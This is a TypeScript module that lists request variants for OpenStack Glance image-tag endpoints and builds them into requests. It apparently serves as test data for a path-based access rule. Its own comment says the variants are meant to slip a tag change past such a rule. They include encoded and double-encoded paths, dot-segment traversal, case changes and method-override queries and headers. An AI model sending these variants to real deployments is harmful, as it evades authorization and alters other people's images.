// How a change of tags can be asked for so that a rule on its path misses it. `ID` stands for the image's id, and `x`
// for a tag that it bears.

/** Asks for the second version of the Image API where the path names none. */
export const V2_BY_ACCEPT = ["Accept", "application/vnd.openstack.images-v2"] as const;

/** The media type of a patch. */
export const PATCH_TYPE = ["Content-Type", "application/openstack-images-v2.1-json-patch"] as const;

/** A patch that would take every tag off an image. */
export const TAGLESS_PATCH = JSON.stringify([{ op: "replace", path: "/tags", value: ["gone"] }]);

/** Spellings of `/v2/images/ID/tags/x`, some of which Glance, or a server before it, takes for that. */
export const TAG_SPELLINGS = [
  "/v2/images/ID/tags/x",
  "/v2/images/ID/tags/x/",
  "/v2/images/ID/tags",
  "/v2//images/ID/tags/x",
  "//v2/images/ID/tags/x",
  "///v2///images///ID///tags///x",
  "/v2/images/ID%2Ftags%2Fx",
  "/v2/images/ID%2ftags%2fx",
  "/v2/images%2FID/tags/x",
  "/v2%2Fimages/ID/tags/x",
  "/v2%2Fimages%2FID%2Ftags%2Fx",
  "%2Fv2/images/ID/tags/x",
  "%2Fv2%2Fimages%2FID%2Ftags%2Fx",
  "%2Fv2%2Fimages%2FID%2Ftags%2Fx/",
  "/v2/images/ID/%74ags/x",
  "/v2/images/ID/%74%61%67%73/x",
  "/v2/%69mages/ID/tags/x",
  "/%762/images/ID/tags/x",
  "/v2/images/ID/%2574ags/x",
  "/v2/images/ID%252Ftags/x",
  "/v2/images/ID/%25252574ags/x",
  "/v2/images/ID/%2525252525252574ags/x",
  "/images/ID/tags/x",
  "//images/ID/tags/x",
  "/v2/images/./ID/tags/x",
  "/v2/./images/ID/tags/x",
  "/v2/images/a/../ID/tags/x",
  "/v2/metadefs/../images/ID/tags/x",
  "/v2/metadefs/%2e%2e/images/ID/tags/x",
  "/v2/metadefs/%252e./images/ID/tags/x",
  "/../v2/images/ID/tags/x",
  "/v2/images/ID/members/../tags/x",
  "/v2/images;a=b/ID/tags/x",
  "/v2/images/ID/tags;a=b/x",
  "/v2/images/ID/tags%3Bx/x",
  "/v2/images/ID\\tags\\x",
  "/v2/images/ID%5Ctags%5Cx",
  "/v2/images/ID/TAGS/x",
  "/V2/IMAGES/ID/tags/x",
  "/v2/images/ID/tags%20/x",
  "/v2/images/ID/tags/x?a=b",
  "/v2/images/ID/tags/x?a=%2F..%2Ffile",
  "/v2/images/ID/tags/x#/file",
  "/v1/images/ID/tags/x",
  "/v3/images/ID/tags/x",
  "/image/v2/images/ID/tags/x",
  "http://127.0.0.1/v2/images/ID/tags/x",
  "HTTP://user@127.0.0.1:80/v2/images/ID/%74ags/x",
  "http://127.0.0.1/v2%2Fimages%2FID%2Ftags%2Fx",
  "http:/v2/images/ID/tags/x",
  "*",
] as const;

/** Spellings of the image itself, by which a PATCH would change its tags. */
export const IMAGE_SPELLINGS = [
  "/v2/images/ID",
  "/v2/images/ID/",
  "/v2//images/ID",
  "//v2/images/ID",
  "/v2/%69mages/ID",
  "/v2/images%2FID",
  "%2Fv2%2Fimages%2FID",
  "/v2/images/%2E/ID",
  "/v2/x/../images/ID",
  "/v2/%2569mages/ID",
  "/v2/images;a/ID",
  "/images/ID",
  "/IMAGES/ID",
  "/v1/images/ID",
  "http://127.0.0.1/v2/images/ID",
] as const;

/** Requests that ask for another method in their query. */
export const OVERRIDING_QUERIES = [
  ["GET", "/v2/images/ID/tags/x?_method=DELETE"],
  ["POST", "/v2/images/ID?_method=PATCH"],
  ["PUT", "/v2/images/ID?_method=patch"],
  ["GET", "/v2/images/ID?_method=PATCH"],
  ["GET", "/v2/images/ID?a=b&_method=PATCH"],
  ["GET", "/v2/images/ID?a=b;_method=PATCH"],
  ["GET", "/v2/images/ID?%5Fmethod=PATCH&a=_method"],
  ["GET", "/v2/images/ID?_%6Dethod=PATCH&a=_method"],
  ["GET", "/v2/images/ID?%5fmethod=PATCH"],
  ["GET", "/v2/images/ID?+_method=PATCH"],
  ["GET", "/v2/images/ID?_METHOD=PATCH"],
  ["GET", "/v2/images/ID?_method"],
  ["GET", "/v2/images/ID??_method=PATCH"],
  ["POST", "/v2/images?_method=GET"],
] as const;

/** Headers by which some servers take another method than the request's own. */
export const OVERRIDING_HEADERS = ["X-HTTP-Method-Override", "x-http-method", "X-Method-Override"] as const;

/** A request as it is written, in the terms of this table. */
export interface WayAround {
  readonly method: string;
  readonly target: string;
  readonly headers: readonly (readonly [name: string, value: string])[];
  readonly body?: string;
}

/** Every way around that is known, `ID` replaced. The first ones are the plain requests themselves. */
export function waysAround(imageId: string): readonly WayAround[] {
  const patch = (target: string, headers: WayAround["headers"] = [], method = "PATCH"): WayAround => ({
    method,
    target,
    headers: [PATCH_TYPE, ...headers],
    body: TAGLESS_PATCH,
  });
  const ways: WayAround[] = TAG_SPELLINGS.flatMap((target) =>
    ["DELETE", "PUT"].flatMap((method) => [
      { method, target, headers: [] },
      { method, target, headers: [V2_BY_ACCEPT] },
    ]),
  );
  ways.push(...IMAGE_SPELLINGS.flatMap((target) => [patch(target), patch(target, [V2_BY_ACCEPT])]));
  for (let minor = 0; minor < 20; minor += 1) {
    ways.push(
      { method: "DELETE", target: `/v2.${minor}/images/ID/tags/x`, headers: [] },
      { method: "PUT", target: `/v2.${minor}/images/ID/tags/gone`, headers: [] },
      patch(`/v2.${minor}/images/ID`),
      patch("/images/ID", [["Accept", `${V2_BY_ACCEPT[1]}.${minor}`]]),
    );
  }
  ways.push(...OVERRIDING_QUERIES.map(([method, target]) => patch(target, [], method)));
  ways.push(...OVERRIDING_HEADERS.map((name) => patch("/v2/images/ID", [[name, "PATCH"]], "POST")));
  ways.push(patch("/v2/images/ID", [], "patch"), patch("/v2/images/ID", [], "Patch"));
  return ways.map((way) => ({ ...way, target: way.target.replace("ID", imageId) }));
}
